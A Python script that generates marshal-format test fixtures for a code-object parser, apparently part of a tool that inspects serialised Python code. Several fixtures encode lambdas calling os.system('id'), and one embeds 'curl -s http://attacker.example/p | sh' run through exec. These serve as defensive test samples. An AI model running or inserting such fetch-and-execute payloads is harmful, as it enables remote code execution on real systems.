#!/usr/bin/python3
"""Regenerate the marshal fixtures of internal/format/pymarshal.

py311_*.marshal are written by the running interpreter's marshal.dumps (Debian's python3, 3.11):
marshalling a code object only serialises it, nothing runs. The other layouts (2.7, 3.0-3.7,
3.8-3.10 and 3.13) cannot be produced by this interpreter, so they are assembled field by field
with the writer below, following CPython's Python/marshal.c w_object for each version. Their field
order and types are exact; their bytecode bytes are illustrative (they are never interpreted).

Run from this directory: /usr/bin/python3 gen_marshal.py
"""
import marshal
import os
import struct
import sys
import types

if os.environ.get("PYTHONHASHSEED") != "0":  # set constants are ordered by string hash
    os.environ["PYTHONHASHSEED"] = "0"
    os.execv(sys.executable, [sys.executable] + sys.argv)

assert sys.version_info[:2] == (3, 11), "the py311 fixtures must come from Python 3.11"

FLAG_REF = 0x80


class Writer:
    """A minimal marshal writer that tracks FLAG_REF slots the way the reader numbers them."""

    def __init__(self):
        self.out = bytearray()
        self.nrefs = 0

    def raw(self, b):
        self.out += b

    def long(self, n):
        self.out += struct.pack("<i", n)

    def tag(self, code, ref):
        if ref:
            self.out.append(ord(code) | FLAG_REF)
            self.nrefs += 1
            return self.nrefs - 1
        self.out.append(ord(code))
        return None

    def ascii(self, s, ref=True, interned=True):
        b = s.encode("ascii")
        idx = self.tag("Z" if interned else "z", ref)
        self.out.append(len(b))
        self.out += b
        return idx

    def py2str(self, s, interned):
        b = s.encode("ascii")
        self.out += b"t" if interned else b"s"
        self.long(len(b))
        self.out += b

    def bytes_(self, b, ref=False, typ="s"):
        self.tag(typ, ref)
        self.long(len(b))
        self.out += b

    def small_tuple(self, n, ref=False):
        idx = self.tag(")", ref)
        self.out.append(n)
        return idx

    def ref(self, idx):
        self.out += b"r"
        self.long(idx)


def py38(lay38=True):
    """lambda x: __import__('os').system('id') as Python 3.8 (lay38) or 3.7 writes it."""
    w = Writer()
    w.tag("c", True)
    w.long(1)  # argcount
    if lay38:
        w.long(0)  # posonlyargcount
    for n in (0, 1, 3, 0x43):  # kwonlyargcount, nlocals, stacksize, flags
        w.long(n)
    # LOAD_GLOBAL 0; LOAD_CONST 1; CALL_FUNCTION 1; LOAD_METHOD 1; LOAD_CONST 2; CALL_METHOD 1; RETURN_VALUE
    w.bytes_(bytes([116, 0, 100, 1, 131, 1, 160, 1, 100, 2, 161, 1, 83, 0]), ref=True)
    w.small_tuple(3, ref=True)
    w.raw(b"N")
    w.ascii("os", interned=False)
    w.ascii("id", interned=False)
    w.small_tuple(2, ref=True)
    w.ascii("__import__")
    w.ascii("system")
    w.small_tuple(1, ref=True)
    w.ascii("x")
    empty = w.small_tuple(0, ref=True)  # freevars
    w.ref(empty)  # cellvars: CPython shares the empty tuple
    w.ascii("<stdin>", interned=False)
    w.ascii("<lambda>")
    w.long(1)  # firstlineno
    w.bytes_(b"", ref=False)  # lnotab / linetable
    return bytes(w.out)


def py313():
    """The same lambda as Python 3.13 lays it out (3.11+ layout with 3.13-style bytecode)."""
    w = Writer()
    w.tag("c", True)
    for n in (1, 0, 0, 4, 3):  # argcount, posonly, kwonly, stacksize, flags
        w.long(n)
    # RESUME 0; LOAD_GLOBAL 1 (+NULL); LOAD_CONST 1; CALL 1; LOAD_ATTR 3 (method); LOAD_CONST 2; CALL 1; RETURN_VALUE
    w.bytes_(bytes([149, 0, 91, 1, 0, 0, 0, 0, 0, 0, 83, 1, 53, 1, 0, 0, 0, 0, 82, 3, 0, 0, 0, 0, 0, 0, 0, 0,
                    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 83, 2, 53, 1, 0, 0, 0, 0, 36, 0]), ref=True)
    w.small_tuple(3, ref=True)
    w.raw(b"N")
    w.ascii("os")
    w.ascii("id")
    w.small_tuple(2, ref=True)
    w.ascii("__import__")
    w.ascii("system")
    w.small_tuple(1, ref=True)
    w.ascii("x")
    w.bytes_(b"\x26", ref=True)  # localspluskinds: CO_FAST_LOCAL | CO_FAST_ARG
    w.ascii("<stdin>", interned=False)
    name = w.ascii("<lambda>")
    w.ref(name)  # qualname
    w.long(1)
    w.bytes_(b"\x80\x00\xd8\x0a", ref=True)  # linetable
    w.bytes_(b"", ref=True)  # exceptiontable
    return bytes(w.out)


def py27():
    """lambda os: __import__('os').system('id') as Python 2.7 writes it, with a 'R' string ref."""
    w = Writer()
    w.raw(b"c")
    for n in (1, 1, 2, 0x43):  # argcount, nlocals, stacksize, flags
        w.long(n)
    code = bytes([116, 0, 0, 100, 1, 0, 131, 1, 0, 106, 1, 0, 100, 2, 0, 131, 1, 0, 83])
    w.raw(b"s")
    w.long(len(code))
    w.raw(code)
    w.raw(b"(")
    w.long(3)
    w.raw(b"N")
    w.py2str("os", interned=True)  # interned string 0
    w.py2str("id", interned=False)
    w.raw(b"(")
    w.long(2)
    w.py2str("__import__", interned=True)
    w.py2str("system", interned=True)
    w.raw(b"(")
    w.long(1)
    w.raw(b"R")  # varnames[0] is the interned "os"
    w.long(0)
    for _ in range(2):  # freevars, cellvars
        w.raw(b"(")
        w.long(0)
    w.py2str("<stdin>", interned=False)
    w.py2str("<lambda>", interned=True)
    w.long(1)
    w.py2str("", interned=False)
    return bytes(w.out)


def lambda_code(src):
    """Compiles the source of one lambda expression and returns the lambda's code object. The
    expression is only compiled, never evaluated, so no function object is even created."""
    outer = compile(src, "<string>", "eval")
    return next(c for c in outer.co_consts if isinstance(c, types.CodeType))


def main():
    fixtures = {
        "py311_os_system.marshal": lambda_code("lambda x: __import__('os').system('id')"),
        "py311_benign.marshal": lambda_code("lambda x: x * 2.0 + 1"),
        "py311_nested.marshal": lambda_code("lambda x, cmd='curl -s http://attacker.example/p | sh': "
                                            "(lambda: exec(cmd))() or x"),
        "py311_constants.marshal": lambda_code("lambda x: (x in {'a', 'b'}, 1.5, 1180591620717411303424, "
                                               "-(2 ** 40), 3j, b'raw', (1, (2, None)), ..., True, "
                                               "'caf\\u00e9', '\\u65e5')"),
    }
    out = {name: marshal.dumps(code) for name, code in fixtures.items()}
    out["py38_os_system.marshal"] = py38(True)
    out["py37_os_system.marshal"] = py38(False)
    out["py313_os_system.marshal"] = py313()
    out["py27_os_system.marshal"] = py27()
    for name, data in sorted(out.items()):
        with open(name, "wb") as f:
            f.write(data)
        print(f"{name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
